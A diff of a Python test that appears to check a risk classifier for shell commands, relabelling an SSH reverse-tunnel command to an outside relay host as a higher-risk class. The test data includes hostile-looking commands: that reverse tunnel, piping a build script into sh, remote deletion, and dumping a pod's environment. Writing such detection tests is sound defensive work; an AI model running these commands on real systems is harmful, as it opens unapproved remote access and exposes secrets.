@@ -52,7 +52,7 @@ def test_remote_access_installs_and_admin_accounts(
         ("jq -r '.scripts.build' package.json | sh", C),
         ("ssh ops@10.0.0.9 uptime", S),
         ("ssh -p 2200 db 'ls -la /var/lib/postgresql'", S),
-        ("ssh -R 2222:localhost:22 relay.example sleep 600", M),
+        ("ssh -R 2222:localhost:22 relay.example sleep 600", C),  # reverse tunnel (sig7)
         ("ssh db 'rm -rf /tmp/cache'", D),
         ("kubectl exec deploy/api -- env", S),
         ("kubectl exec -it api-0 -- bash", M),
